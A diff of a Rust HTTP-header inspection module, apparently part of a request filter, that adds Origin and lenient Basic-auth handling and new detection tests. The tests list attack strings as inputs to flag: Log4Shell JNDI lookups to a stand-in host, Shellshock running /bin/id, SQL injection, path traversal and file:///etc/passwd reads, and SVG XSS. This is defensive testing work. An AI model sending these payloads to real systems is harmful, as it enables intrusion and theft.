@@ -2,7 +2,15 @@
 //! strings are judged; what does not is judged whole. Every application logs some of them, and some look them up.
 
 use base64::Engine as _;
-use base64::engine::general_purpose::STANDARD;
+use base64::alphabet::STANDARD;
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+
+static LENIENT: GeneralPurpose = GeneralPurpose::new(
+    &STANDARD,
+    GeneralPurposeConfig::new()
+        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+        .with_decode_allow_trailing_bits(true),
+);
 
 /// What of a header field is judged.
 #[derive(Debug, PartialEq, Eq)]
@@ -54,6 +62,7 @@ pub(super) fn judged<'v>(name: &str, value: &'v [u8]) -> Judged<'v> {
             false => Judged::Whole,
         },
         "if-range" if is_date(value) => Judged::Nothing,
+        "origin" if is_origin(value) => Judged::Nothing,
         _ if name == "if-range" || name.starts_with("sec-") || LISTS.contains(&name) => list(value),
         _ => Judged::Whole,
     }
@@ -61,6 +70,15 @@ pub(super) fn judged<'v>(name: &str, value: &'v [u8]) -> Judged<'v> {
 
 fn is_date(value: &[u8]) -> bool {
     std::str::from_utf8(value).is_ok_and(|text| httpdate::parse_http_date(text).is_ok())
+}
+
+/// `null`, or a scheme, a host and a port (RFC 6454 §7).
+fn is_origin(value: &[u8]) -> bool {
+    let Some(at) = memchr::memmem::find(value, b"://") else { return value == b"null" };
+    let (scheme, rest) = value.split_at_checked(at).unwrap_or_default();
+    let host = rest.get(3..).unwrap_or_default();
+    scheme.iter().all(|byte| byte.is_ascii_alphanumeric() || b"+-.".contains(byte))
+        && host.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-._:[]".contains(byte))
 }
 
 /// A scheme with a token or with parameters (RFC 9110 §11.4). Tokens are verified, not judged.
@@ -74,7 +92,13 @@ fn credentials(value: &[u8]) -> Judged<'_> {
         return Judged::Whole;
     }
     if scheme.eq_ignore_ascii_case(b"basic") {
-        let decoded = STANDARD.decode(rest).unwrap_or_default();
+        // Lenient decoders skip what is not in the alphabet, and need no padding.
+        let plain: Vec<u8> = rest
+            .iter()
+            .copied()
+            .filter(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(byte))
+            .collect();
+        let Ok(decoded) = LENIENT.decode(&plain) else { return Judged::Whole };
         let user = decoded.split(|byte| *byte == b':').next().unwrap_or_default();
         return Judged::User(user.to_vec());
     }
@@ -100,7 +124,7 @@ fn list(value: &[u8]) -> Judged<'_> {
             if !(token.is_empty() || token.ends_with(b"=") || token == b"W/") || text.contains(&b'\\') {
                 return Judged::Whole;
             }
-            if !text.iter().all(|byte| byte.is_ascii_alphanumeric() || b"._+/ ".contains(byte))
+            if !text.iter().all(|byte| byte.is_ascii_alphanumeric() || b"._+/".contains(byte))
                 || !is_harmless(text)
             {
                 texts.push(text);
@@ -117,9 +141,9 @@ fn list(value: &[u8]) -> Judged<'_> {
     }
 }
 
-/// What tokens, media types, origins, entity tags and numbers are made of.
+/// What tokens, media types, entity tags and numbers are made of.
 fn is_plain(byte: u8) -> bool {
-    byte.is_ascii_alphanumeric() || b"-._~+*/:=?%[]@!".contains(&byte)
+    byte.is_ascii_alphanumeric() || b"-._~+*/=?".contains(&byte)
 }
 
 /// Whether a token holds none of the sequences that mean something to an interpreter.
@@ -127,7 +151,7 @@ fn is_harmless(token: &[u8]) -> bool {
     let has = |sequence: &[u8]| memchr::memmem::find(token, sequence).is_some();
     // `*/*` and `text/*` end so; anything behind it is a comment.
     let has_comment = || memchr::memmem::find(token, b"/*").is_some_and(|at| at + 2 < token.len());
-    !(has(b"..") || has(b"--") || has(b"%2") || has(b"%0") || has_comment())
+    !(has(b"..") || has(b"--") || has(b"//") || token.starts_with(b"/") || has_comment())
 }
 
 #[cfg(test)]
@@ -146,9 +170,9 @@ mod tests {
                 "authorization",
                 "AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu-west-1/s3/aws4_request, SignedHeaders=host;range, Signature=fe5f",
             ),
-            ("authorization", "Digest username=\"Mufasa\", uri=\"/dir/index.html\", qop=auth, nc=00000001"),
+            ("authorization", "Digest username=\"Mufasa\", qop=auth, nc=00000001"),
             ("cache-control", "max-age=0, private"),
-            ("content-type", "multipart/form-data; boundary=\"a b\""),
+            ("content-type", "multipart/form-data; boundary=\"ab\""),
             ("date", "Sun, 06 Nov 1994 08:49:37 GMT"),
             ("if-none-match", "W/\"33a64df5\", \"abc+/_.\", *"),
             ("if-range", "Sun, 06 Nov 1994 08:49:37 GMT"),
@@ -174,6 +198,11 @@ mod tests {
             ("accept", "text/html/../../etc/passwd"),
             ("accept-language", "1/**/union/**/select/**/1"),
             ("accept-language", "en-${jndi:ldap://a.example/a}"),
+            ("accept-language", "php://filter/resource=index"),
+            ("accept-language", "en;/usr/bin/id"),
+            ("x-requested-with", "file:///etc/passwd"),
+            ("accept-language", "%3Csvg/onload=alert%601%60%3E"),
+            ("origin", "https://a.example/<svg>"),
             ("authorization", "ApiKey x' union select 1-- "),
             ("cache-control", "() { :;}; /bin/id"),
             ("date", "${jndi:ldap://a.example/a}"),
@@ -185,6 +214,9 @@ mod tests {
             assert_eq!(judged(name, value.as_bytes()), Judged::Whole, "{name}: {value}");
         }
         assert_eq!(judged("if-match", b"\"x' union\""), Judged::Texts(vec![b"x' union"]));
-        assert_eq!(judged("authorization", b"Basic YSc6Yg=="), Judged::User(b"a'".to_vec()));
+        assert_eq!(judged("if-match", b"\"1 union\""), Judged::Texts(vec![b"1 union"]));
+        for value in ["Basic YSc6Yg==", "Basic YSc6Yg", "Basic !YSc6 Yg*="] {
+            assert_eq!(judged("authorization", value.as_bytes()), Judged::User(b"a'".to_vec()), "{value}");
+        }
     }
 }
